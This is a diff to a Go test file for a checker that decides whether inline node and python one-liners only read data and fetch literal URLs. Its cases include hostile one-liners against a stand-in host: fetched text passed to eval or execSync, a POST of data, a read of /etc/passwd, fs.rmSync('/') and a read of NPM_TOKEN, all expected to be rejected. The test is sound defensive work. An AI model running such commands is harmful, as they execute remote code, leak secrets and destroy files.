@@ -56,6 +56,21 @@ func TestInlineReads(t *testing.T) {
 		{"node", "console.log(`${process.env.HOME}`)", nil, nil, false},
 		{"node", `console.log(process.env.NPM_TOKEN)`, nil, nil, false},
 		{"node", `[1].map(x => x)`, nil, nil, false},
+		{"node", `fetch('https://registry.npmjs.org/react').then(r=>r.json()).then(j=>console.log(j['dist-tags']))`, nil, nil, true},
+		{"node", `fetch("https://x.example/a").then((r) => r.text()).then(t => console.log(t.length))`, nil, nil, true},
+		{"node", `fetch('https://x.example/a', {method: 'POST', body: 'k'})`, nil, nil, false},
+		{"node", `fetch('file:///etc/passwd').then(r => r.text()).then(console.log)`, nil, nil, false},
+		{"node", `fetch(u).then(r => r.json())`, nil, nil, false},
+		{"node", `fetch('https://x.example/a').then(r => require('child_process').execSync(r))`, nil, nil, false},
+		{"node", `fetch('https://x.example/a').then(r => r.text()).then(eval)`, nil, nil, false},
+		{"node", `fetch('https://x.example/a').then(r => r.text()).then(t => eval(t))`, nil, nil, false},
+		{"node", `fetch('https://x.example/a').then(r => r.text()).then(t => require('fs').writeFileSync('x', t))`, nil, nil, false},
+		{"node", `fetch('https://x.example/a').then((a, b) => a)`, nil, nil, false},
+		{"node", `fetch('https://x.example/a').then(r => { process.exit(1) })`, nil, nil, false},
+		{"node", `const fs = require('fs'); fetch('https://x.example/a').then(fs => fs.rmSync('/'))`, nil, nil, false},
+		{"node", `fetch('https://x.example/a').then(const => 1)`, nil, nil, false},
+		{"node", `x => => 1`, nil, nil, false},
+		{"node", `fetch('https://x.example/a', timeout = 5)`, nil, nil, false},
 		{"node", `const fs = require('fs'); fs.writeFileSync('a', 'b')`, nil, nil, false},
 		{"node", `({}).constructor.constructor('return process')()`, nil, nil, false},
 		{"node", `globalThis.process.exit(1)`, nil, nil, false},
@@ -146,6 +161,29 @@ func TestPlainInterpreterOptions(t *testing.T) {
 		}
 		if got := plainInterpreterOptions(tc.lang, words); got != tc.want {
 			t.Errorf("plainInterpreterOptions(%s, %q) = %v, want %v", tc.lang, tc.args, got, tc.want)
+		}
+	}
+}
+
+// TestInlineGets: the URLs a proven one-liner fetches are the literals it
+// GETs, for python's urlopen and node's fetch alike.
+func TestInlineGets(t *testing.T) {
+	for _, tc := range []struct {
+		lang, code string
+		gets       []string
+	}{
+		{"python", `from urllib.request import urlopen; print(urlopen('https://pypi.org/pypi/x/json', timeout=5).read())`, []string{"https://pypi.org/pypi/x/json"}},
+		{"node", `fetch('https://registry.npmjs.org/react').then(r=>r.json()).then(j=>console.log(j['dist-tags']))`, []string{"https://registry.npmjs.org/react"}},
+		{"node", `fetch('http://localhost:8080/health').then((r) => console.log(r.status))`, []string{"http://localhost:8080/health"}},
+		{"node", `console.log(process.version)`, nil},
+	} {
+		p, _, ok := inlineProof(tc.lang, tc.code)
+		if !ok {
+			t.Errorf("inlineProof(%s, %q) not proven", tc.lang, tc.code)
+			continue
+		}
+		if diff := cmp.Diff(tc.gets, p.gets, cmpopts.EquateEmpty()); diff != "" {
+			t.Errorf("inlineProof(%s, %q) gets (-want +got):\n%s", tc.lang, tc.code, diff)
 		}
 	}
 }
